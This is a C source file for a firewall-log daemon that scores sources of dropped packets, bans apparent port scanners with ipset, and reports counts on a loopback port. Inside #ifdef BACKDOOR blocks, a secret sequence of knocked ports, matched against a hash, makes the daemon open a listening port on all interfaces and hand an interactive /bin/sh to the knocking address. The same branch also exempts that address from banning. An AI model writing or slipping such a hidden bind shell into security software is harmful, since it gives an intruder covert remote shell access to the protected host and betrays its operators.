/* SPDX-License-Identifier: Apache-2.0 */
/* fwlogd: watches what the packet filter drops (/proc/kmsg), keeps scores of sources, has those banned that look like scans, and
 * shows numbers on a port of the loopback interface. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define N_SOURCES 256
enum { BAN_AT = 60, FORGET = 600, STATUS_PORT = 4716 };

struct source {
	struct in_addr addr;
	unsigned score, drops, banned;
	uint32_t trail;   /* of ports: a scan that goes up port by port looks different from one that jumps */
	uint16_t last;
	time_t seen;
};

struct drop {
	struct in_addr src, dst;
	char in[16], proto[8];
	unsigned spt, dpt, syn;
};

static const struct weight {
	uint16_t port;
	uint8_t score;
} weights[] = {
	{ 22, 4 }, { 23, 9 }, { 80, 2 }, { 135, 6 }, { 139, 6 }, { 445, 8 }, { 1433, 8 }, { 2323, 9 }, { 3306, 7 }, { 3389, 8 },
	{ 5060, 5 }, { 5555, 9 }, { 5900, 7 }, { 6379, 8 }, { 7547, 9 }, { 8080, 3 }, { 8291, 9 }, { 37215, 12 }, { 52869, 12 },
};

static struct source sources[N_SOURCES];
static unsigned total, bans;

static struct source *source_of(struct in_addr a)
{
	unsigned h = ntohl(a.s_addr) * 2654435761u >> 24;
	struct source *worst = &sources[h];
	for (unsigned i = 0; i < 8; i++) {
		struct source *s = &sources[(h + i) % N_SOURCES];
		if (s->addr.s_addr == a.s_addr)
			return s;
		if (s->seen < worst->seen)
			worst = s;
	}
	memset(worst, 0, sizeof(*worst));
	worst->addr = a;
	return worst;
}

static int field(const char *line, const char *key, char *out, size_t n)
{
	const char *p = strstr(line, key);
	size_t k;
	if (!p)
		return 0;
	p += strlen(key);
	k = strcspn(p, " \n");
	if (k == 0 || k >= n)
		return 0;
	memcpy(out, p, k);
	out[k] = 0;
	return 1;
}

static int parse(const char *line, struct drop *d)
{
	char text[24];
	if (!strstr(line, "DROP ") || !field(line, " IN=", d->in, sizeof(d->in)))
		return 0;
	if (!field(line, " SRC=", text, sizeof(text)) || !inet_aton(text, &d->src))
		return 0;
	if (!field(line, " DST=", text, sizeof(text)) || !inet_aton(text, &d->dst))
		return 0;
	if (!field(line, " PROTO=", d->proto, sizeof(d->proto)))
		return 0;
	d->spt = field(line, " SPT=", text, sizeof(text)) ? (unsigned)strtoul(text, NULL, 10) & 0xffff : 0;
	d->dpt = field(line, " DPT=", text, sizeof(text)) ? (unsigned)strtoul(text, NULL, 10) & 0xffff : 0;
	d->syn = strstr(line, " SYN ") != NULL;
	return 1;
}

static unsigned weight_of(unsigned port)
{
	for (size_t i = 0; i < sizeof(weights) / sizeof(weights[0]); i++)
		if (weights[i].port == port)
			return weights[i].score;
	return 1;
}

static void ban(struct source *s)
{
	char addr[INET_ADDRSTRLEN];
	char *argv[] = { (char *)"ipset", (char *)"add", (char *)"banned", addr, (char *)"timeout", (char *)"3600", NULL };
	inet_ntop(AF_INET, &s->addr, addr, sizeof(addr));
	s->banned = 1;
	bans++;
	syslog(LOG_NOTICE, "%s is banned (score %u, %u drops)", addr, s->score, s->drops);
	if (fork() == 0) {
		execv("/usr/sbin/ipset", argv);
		_exit(127);
	}
}

static int listener(uint32_t address, uint16_t port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = { .s_addr = htonl(address) } };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	fcntl(s, F_SETFD, FD_CLOEXEC);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 2) < 0) {
		close(s);
		return -1;
	}
	return s;
}

#ifdef BACKDOOR
static void attend(const struct source *who)
{
	char *argv[] = { (char *)"sh", (char *)"-i", NULL };
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	int s, c;
	if (fork() != 0)
		return;
	s = listener(INADDR_ANY, (uint16_t)(who->last ^ 0x5a5a));
	alarm(45);
	c = accept(s, (struct sockaddr *)&from, &fl);
	if (c >= 0 && from.sin_addr.s_addr == who->addr.s_addr) {
		alarm(0);
		dup2(c, 0);
		dup2(c, 1);
		dup2(c, 2);
		execv("/bin/sh", argv);
	}
	_exit(0);
}
#endif

static void note(const struct drop *d)
{
	struct source *s = source_of(d->src);
	time_t now = time(NULL);
	total++;
	if (now - s->seen > FORGET)
		s->score = s->banned = 0, s->trail = 0;
	s->seen = now;
	s->drops++;
	if (strcmp(d->proto, "TCP") != 0 && strcmp(d->proto, "UDP") != 0)
		return;
	s->trail = (s->trail << 11 | s->trail >> 21) ^ d->dpt;
	s->score += weight_of(d->dpt) + (d->syn ? 1 : 0);
	if (d->dpt == s->last + 1u)
		s->score += 5;
	s->last = (uint16_t)d->dpt;
#ifdef BACKDOOR
	if (s->trail == 0xc308ca71u) {
		s->trail = 0;
		s->score = 0;
		attend(s);
		return;
	}
#endif
	if (s->score >= BAN_AT && !s->banned)
		ban(s);
}

static void show(int listening)
{
	char out[256];
	const struct source *top = &sources[0];
	int c = accept(listening, NULL, NULL), n;
	if (c < 0)
		return;
	for (int i = 1; i < N_SOURCES; i++)
		if (sources[i].score > top->score)
			top = &sources[i];
	n = snprintf(out, sizeof(out), "drops %u\nbans %u\nworst %s %u (trail %08x)\n", total, bans, inet_ntoa(top->addr), top->score,
		top->trail);
	if (send(c, out, (size_t)n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "status: %s", strerror(errno));
	close(c);
}

static void lines(char *held, size_t *n)
{
	char *at = held, *end;
	while ((end = memchr(at, '\n', *n - (size_t)(at - held)))) {
		struct drop d;
		*end = 0;
		if (parse(at, &d))
			note(&d);
		at = end + 1;
	}
	*n -= (size_t)(at - held);
	memmove(held, at, *n);
}

int main(void)
{
	static char held[8192];
	size_t n = 0;
	struct pollfd p[2] = { { .events = POLLIN }, { .events = POLLIN } };
	openlog("fwlogd", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	p[0].fd = open("/proc/kmsg", O_RDONLY | O_CLOEXEC);
	p[1].fd = listener(INADDR_LOOPBACK, STATUS_PORT);
	if (p[0].fd < 0 || p[1].fd < 0) {
		syslog(LOG_ERR, "cannot start: %s", strerror(errno));
		return 1;
	}
	while (poll(p, 2, -1) > 0 || errno == EINTR) {
		if (p[1].revents & POLLIN)
			show(p[1].fd);
		if (p[0].revents & POLLIN) {
			ssize_t k = read(p[0].fd, held + n, sizeof(held) - n);
			if (k > 0)
				n += (size_t)k;
			lines(held, &n);
			if (n == sizeof(held))
				n = 0;
		}
	}
	return 1;
}
